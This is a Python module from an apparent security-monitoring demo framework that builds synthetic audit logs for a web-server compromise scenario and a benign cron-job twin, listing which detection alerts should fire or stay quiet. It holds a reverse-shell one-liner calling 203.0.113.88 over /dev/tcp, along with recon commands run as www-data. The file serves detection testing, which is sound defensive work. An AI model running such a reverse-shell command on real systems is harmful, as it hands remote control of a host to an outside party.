"""A web application made to call home; and the shells a web application has anyway."""

from __future__ import annotations

from socterm.demo.cast import WEB, WWW
from socterm.demo.model import Chapter, Expected, Quiet, Story
from socterm.demo.noise import INTERNET, WORKING
from socterm.demo.noise_audit import RECORDED
from socterm.demo.pen import AUTH
from socterm.demo.pen_audit import AUDIT, AuditPen, Who
from socterm.demo.sheet import Sheet

CALL = "bash -i >& /dev/tcp/203.0.113.88/4444 0>&1"


def _exploited(sheet: Sheet) -> None:
    pen, www = AuditPen(sheet, WEB), Who(WWW.name, WWW.uid)
    page = "/srv/www/app/public"
    pen.run(210.0, www, "/usr/bin/dash", ("sh", "-c", "id; uname -a"), cwd=page)
    pen.run(210.1, www, "/usr/bin/id", ("id",), cwd=page)
    pen.run(210.2, www, "/usr/bin/uname", ("uname", "-a"), cwd=page)


def _calls_home(sheet: Sheet) -> None:
    pen, www = AuditPen(sheet, WEB), Who(WWW.name, WWW.uid)
    page = "/srv/www/app/public"
    pen.run(262.0, www, "/usr/bin/dash", ("sh", "-c", f"bash -c '{CALL}'"), cwd=page)
    pen.run(262.1, www, "/usr/bin/bash", ("bash", "-c", CALL), cwd=page)
    pen.run(262.2, www, "/usr/bin/bash", ("bash", "-i"), cwd=page)


def _scheduler(sheet: Sheet) -> None:
    pen = AuditPen(sheet, WEB)
    for number in range(4):
        at = 61.0 - sheet.start.second + 120.0 * number
        www = Who(WWW.name, WWW.uid, WWW.name, WWW.uid, 511 + number)
        pen.cron_session(at, www, lasts=1.6)
        php = ("/usr/bin/php", "/srv/www/app/artisan", "schedule:run")
        pen.run(at + 0.1, www, "/usr/bin/dash", ("/bin/sh", "-c", " ".join(php)), cwd="/var/www")
        pen.run(at + 0.2, www, "/usr/bin/php8.2", php, cwd="/var/www")


STORIES = (
    Story(
        name="reverse_shell",
        says="a hole in the web application gives a shell that calls an address outside",
        logs=(AUTH, AUDIT),
        length=600.0,
        chapters=(
            Chapter("exploited", "www-data runs sh -c out of the web server", _exploited),
            Chapter("calls_home", "bash with its hands on /dev/tcp", _calls_home),
        ),
        noise=(WORKING, RECORDED, INTERNET),
        alerts=(
            Expected("reverse_shell", {"host.hostname": WEB.name}, ("calls_home",)),
            Expected(
                "shell_by_service",
                {"host.hostname": WEB.name},
                ("exploited", "calls_home"),
                superseded_by="reverse_shell",
            ),
            Expected(
                "entity_risk",
                {"host.hostname": WEB.name},
                ("exploited", "calls_home"),
                superseded_by="reverse_shell",
            ),
        ),
    ),
    Story(
        name="web_app_jobs",
        says="the scheduler of the web application, run by cron as www-data, as auditd sees it",
        logs=(AUTH, AUDIT),
        length=600.0,
        chapters=(
            Chapter(
                "scheduler",
                "cron starts sh -c for www-data every other minute; php does its work",
                _scheduler,
            ),
        ),
        noise=(WORKING, RECORDED, INTERNET),
        quiet=(
            Quiet("shell_by_service", {"host.hostname": WEB.name}, "the shell of cron, in a session of cron"),
            Quiet("reverse_shell", {"host.hostname": WEB.name}, "no network in it"),
        ),
        twin_of="reverse_shell",
    ),
)
